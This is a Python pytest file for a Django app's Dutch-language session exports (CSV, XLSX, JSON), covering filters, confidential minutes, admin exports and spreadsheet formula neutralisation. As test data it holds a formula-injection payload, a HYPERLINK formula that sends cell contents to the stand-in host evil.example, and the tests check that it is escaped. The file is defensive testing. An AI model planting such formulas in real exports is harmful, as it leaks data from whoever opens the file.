"""Exports from the sessions overview (respecting its filters) and from the admin: CSV that
Dutch Excel opens correctly, XLSX, JSON; Dutch headers; formula cells neutralised; minutes only
when asked for."""

import csv
import io
import json
import zipfile
from datetime import datetime

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from actiescan.models import SuccessFactor
from actiescan.tabular import csv_chunks, neutralise, write_xlsx
from reports.exports import SessionResource, SessionWithMinutesResource
from sessions.models import ActionPoint, ActionStatus, Initiative, SessionFactor, Status

from .helpers import at, client_for, make_session

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'


@pytest.fixture
def sessions(db, moderator, notulist):
    zee = Initiative.objects.create(name="Leerwerkloket Zeeën & Oevers", sector="Techniek",
                                    region="Zeeland")
    evil = Initiative.objects.create(name=HYPERLINK, sector="Zorg")
    held = make_session(
        zee, moderator, notulist, when=at(2026, 3, 12, 14),
        levels={"maatwerk": ("gevorderd", "voldragen"), "digitale-tools": ("startend", ""),
                "leren-monitoring": ("", "")},
        actions={"maatwerk": ["Loopbaancoaches inzetten", "@werkgevers uitnodigen"]},
    )
    SessionFactor.objects.filter(session=held, factor__code="maatwerk").update(
        minutes="Geheime notulen over maatwerk", rationale="Loopt goed"
    )
    held.general_minutes = "Algemene geheime notulen"
    held.save()
    action = ActionPoint.objects.get(session_factor__session=held, position=1,
                                     session_factor__factor__code="maatwerk")
    action.owner = "+31 6 12345678"
    action.status, action.status_comment = ActionStatus.BEZIG, "-2 coaches nog nodig"
    action.save()
    planned = make_session(evil, moderator, when=at(2026, 12, 1), status=Status.GEPLAND,
                           levels={"maatwerk": ("", "")})
    return {"held": held, "planned": planned}


def download(client, **params):
    response = client.get(reverse("reports:sessions_export"), params)
    assert response.status_code == 200, response.content[:500]
    content = b"".join(response) if response.streaming else response.content
    if hasattr(response, "file_to_stream") and response.file_to_stream:
        response.close()
    return response, content


def read_csv(content: bytes):
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark for Excel"
    text = content[3:].decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_scores_csv_is_utf8_with_bom_and_semicolons_for_dutch_excel(sessions, staff):
    # The factor's name comes from the session's snapshot, not from today's catalogue.
    snapshot_title = SuccessFactor.objects.get(code="maatwerk").title
    SuccessFactor.objects.filter(code="maatwerk").update(title="Later hernoemd")
    response, content = download(client_for(Client, staff), kind="scores", format="csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="actiescan-scores-')
    assert response["Content-Disposition"].endswith('.csv"')
    # The exact bytes: BOM, Dutch headers separated by ';', CRLF line ends, ë as UTF-8.
    first_line = content.split(b"\r\n", 1)[0]
    assert first_line == (
        "\ufeffSessie-ID;Datum;Code initiatief;LLO-initiatief;Casus;Code succesfactor;"
        "Succesfactor;Volgorde in het gesprek;Huidig niveau;Gewenst niveau;"
        "Besproken subvragen;Bestede tijd (minuten);Toelichting op het niveau"
    ).encode("utf-8")
    assert "Zeeën".encode() in content and b"\r\n" in content
    rows = read_csv(content)
    held = sessions["held"]
    data = [row for row in rows[1:] if row[0] == str(held.pk)]
    # One row per session × chosen factor, with the catalogue code and the level.
    assert [(r[5], r[8], r[9]) for r in data] == [
        ("maatwerk", "Gevorderd", "Voldragen"),
        ("digitale-tools", "Startend", ""),
        ("leren-monitoring", "", ""),
    ]
    assert data[0][1] == "12-03-2026 14:00"  # Dutch date
    assert data[0][3] == "Leerwerkloket Zeeën & Oevers" and data[0][4] == "nee"
    assert data[0][12] == "Loopt goed"
    assert data[0][6] == snapshot_title != "Later hernoemd"


def test_formula_cells_are_neutralised_in_csv(sessions, staff):
    client = client_for(Client, staff)
    _response, content = download(client, kind="sessies", format="csv")
    rows = read_csv(content)
    names = {row[3] for row in rows[1:]}
    assert "'" + HYPERLINK in names
    assert HYPERLINK not in names
    assert b";=HYPERLINK" not in content and b'"=HYPERLINK' not in content
    _response, content = download(client, kind="actiepunten", format="csv")
    rows = read_csv(content)
    header, data = rows[0], rows[1:]
    first = dict(zip(header, next(r for r in data if r[8] == "Loopbaancoaches inzetten"), strict=True))
    assert first["Trekker"] == "'+31 6 12345678"
    assert first["Toelichting op de stand van zaken"] == "'-2 coaches nog nodig"
    assert first["Stand van zaken"] == "bezig"
    assert any(r[8] == "'@werkgevers uitnodigen" for r in data)


def test_xlsx_cells_are_typed_text_that_never_becomes_a_formula_and_dates_are_dates(sessions, staff):
    response, content = download(client_for(Client, staff), kind="sessies", format="xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    # In the file itself: no formula anywhere.
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    assert header[:4] == ["Sessie-ID", "Datum", "Code initiatief", "LLO-initiatief"]
    assert rows[0][0].font.b
    by_name = {row[3].value: row for row in rows[1:]}
    # "=…" is what openpyxl and Excel would take for a formula: a string cell, apostrophe and
    # Excel's quote prefix (editing the cell keeps it text).
    evil = by_name["'" + HYPERLINK]
    assert evil[3].data_type == "s" and evil[3].quotePrefix
    assert HYPERLINK not in by_name
    assert not any(cell.data_type == "f" for row in rows for cell in row)
    held = by_name["Leerwerkloket Zeeën & Oevers"]
    assert held[1].value == datetime(2026, 3, 12, 14, 0)
    assert held[1].number_format == "dd-mm-yyyy hh:mm"


def test_xlsx_shows_dashes_and_plus_signs_as_typed(sessions, staff):
    """A dash bullet, a phone number or an @name is text in a typed string cell: no apostrophe
    in sight, and still never a formula (in CSV they keep theirs, see above)."""
    _response, content = download(client_for(Client, staff), kind="actiepunten", format="xlsx")
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    first = dict(zip(header, next(r for r in rows if r[8].value == "Loopbaancoaches inzetten"), strict=True))
    for column, typed in (("Trekker", "+31 6 12345678"),
                          ("Toelichting op de stand van zaken", "-2 coaches nog nodig")):
        assert first[column].value == typed
        assert first[column].data_type == "s" and first[column].quotePrefix
    assert any(r[8].value == "@werkgevers uitnodigen" for r in rows)
    assert first["Stand van zaken"].value == "bezig" and not first["Stand van zaken"].quotePrefix


def test_xlsx_has_an_autofilter_wrapped_multi_line_cells_and_widths_from_the_content(tmp_path):
    long_text = "Loopbaanadviseurs laten twee keer per jaar meedraaien bij leerbedrijven " * 3
    rows = [
        [1, "- eerste punt\n- tweede punt", "kort", datetime(2026, 3, 12, 14, 0)],
        [2, long_text, "ook kort", None],
        [3, "=HYPERLINK(\"http://evil.example\")", "x", None],
    ]
    target = io.BytesIO()
    write_xlsx(["Nr", "Notulen", "Trekker", "Datum"], rows, target, title="Test")
    sheet = load_workbook(io.BytesIO(target.getvalue())).active
    assert sheet.auto_filter.ref == "A1:D4"
    assert sheet.freeze_panes == "A2"
    notes = sheet["B2"]
    assert notes.value == "- eerste punt\n- tweede punt" and notes.alignment.wrap_text
    assert sheet["B3"].alignment.wrap_text  # longer than the column is wide
    assert not sheet["C2"].alignment.wrap_text
    widths = {col: sheet.column_dimensions[col].width for col in "ABCD"}
    # From the content, bounded: the long text gets the maximum, not 220 characters.
    assert widths["B"] == 60
    assert widths["C"] == len("ook kort") + 2 and widths["A"] == 8
    assert widths["D"] == len("dd-mm-yyyy hh:mm") + 2
    assert sheet["B4"].value == "'=HYPERLINK(\"http://evil.example\")" and sheet["B4"].data_type == "s"


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+31", "'+31"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("gewoon", "gewoon"), ("a=b", "a=b"), (-5, -5),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_export_respects_the_overview_filters(sessions, staff):
    client = client_for(Client, staff)
    _r, content = download(client, kind="scores", format="csv", status="gepland")
    ids = {row[0] for row in read_csv(content)[1:]}
    assert ids == {str(sessions["planned"].pk)}
    _r, content = download(client, kind="sessies", format="csv", region="Zeeland")
    assert {row[0] for row in read_csv(content)[1:]} == {str(sessions["held"].pk)}
    _r, content = download(client, kind="sessies", format="csv", q="niets-dat-bestaat")
    assert len(read_csv(content)) == 1  # the header only


def test_minutes_only_when_explicitly_asked_for(sessions, staff):
    client = client_for(Client, staff)
    for kind in ("scores", "sessies"):
        _r, content = download(client, kind=kind, format="csv")
        assert b"geheime notulen" not in content.lower()
        assert "Notulen" not in read_csv(content)[0]
    _r, content = download(client, kind="scores", format="csv", minutes="on")
    rows = read_csv(content)
    assert rows[0][-1] == "Notulen"
    assert "Geheime notulen over maatwerk" in {row[-1] for row in rows[1:]}
    _r, content = download(client, kind="sessies", format="csv", minutes="on")
    assert "Algemene notulen" in read_csv(content)[0]
    assert b"Algemene geheime notulen" in content


def test_json_export_has_dutch_keys(sessions, staff):
    response, content = download(client_for(Client, staff), kind="actiepunten", format="json")
    assert response["Content-Type"] == "application/json"
    items = json.loads(content.decode("utf-8"))
    item = next(i for i in items if i["Actiepunt"] == "Loopbaancoaches inzetten")
    SuccessFactor.objects.filter(code="maatwerk").update(title="Later hernoemd")
    _r, content = download(client_for(Client, staff), kind="actiepunten", format="json")
    renamed = next(i for i in json.loads(content) if i["Actiepunt"] == "Loopbaancoaches inzetten")
    assert renamed["Succesfactor"] == item["Succesfactor"] != "Later hernoemd"
    assert item["Stand van zaken"] == "bezig" and item["Code succesfactor"] == "maatwerk"
    assert item["Datum"].startswith("2026-03-12T14:00")
    assert item["Casus"] is False


@pytest.mark.parametrize("params", [
    {"kind": "alles", "format": "csv"}, {"kind": "scores", "format": "pdf"},
    {"kind": "scores"}, {"kind": "scores", "format": "csv", "start": "morgen"},
])
def test_bad_export_requests_get_a_message_and_400(sessions, staff, params):
    response = client_for(Client, staff).get(reverse("reports:sessions_export"), params)
    assert response.status_code == 400
    assert "Deze export kan niet" in response.content.decode()


def test_writers_handle_many_rows_in_chunks():
    rows = ([n, f"rij {n}"] for n in range(1200))
    chunks = list(csv_chunks(["Nummer", "Tekst"], rows, rows_per_chunk=500))
    assert len(chunks) == 3
    assert b"".join(chunks).count(b"\r\n") == 1201
    target = io.BytesIO()
    write_xlsx(["Nummer"], ([n] for n in range(1200)), target, title="Test")
    assert load_workbook(io.BytesIO(target.getvalue())).active.max_row == 1201


# --- Admin ------------------------------------------------------------------------------------

def admin_export(client, model, resource, resource_index, format_index, **extra):
    data = {"format": str(format_index), "resource": str(resource_index), **extra}
    prefix = resource.__name__.lower()
    for name in resource().get_export_order():
        data[f"{prefix}_{name}"] = "on"
    return client.post(reverse(f"admin:scan_sessions_{model}_export"), data)


def test_admin_exports_sessions_as_dutch_csv_with_minutes_only_on_request(sessions, staff):
    client = client_for(Client, staff)
    response = admin_export(client, "scansession", SessionResource, 0, 1)
    assert response.status_code == 200
    rows = read_csv(response.content)
    assert rows[0][:2] == ["Sessie-ID", "Datum"]
    assert "'" + HYPERLINK in {row[3] for row in rows[1:]}
    assert b"Algemene geheime notulen" not in response.content
    response = admin_export(client, "scansession", SessionWithMinutesResource, 1, 1)
    assert b"Algemene geheime notulen" in response.content


def test_admin_exports_scores_and_action_points_as_xlsx(sessions, staff):
    from reports.exports import ActionPointResource, ScoreResource

    client = client_for(Client, staff)
    response = admin_export(client, "sessionfactor", ScoreResource, 0, 0)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.cell(1, 6).value == "Code succesfactor"
    assert sheet.max_row == 1 + SessionFactor.objects.count()
    response = admin_export(client, "actionpoint", ActionPointResource, 0, 0)
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "Stand van zaken" in values and "@werkgevers uitnodigen" in values


def test_admin_export_is_refused_to_non_staff(sessions, moderator):
    response = admin_export(client_for(Client, moderator), "scansession", SessionResource, 0, 1)
    assert response.status_code == 302 and "/beheer/login/" in response.url
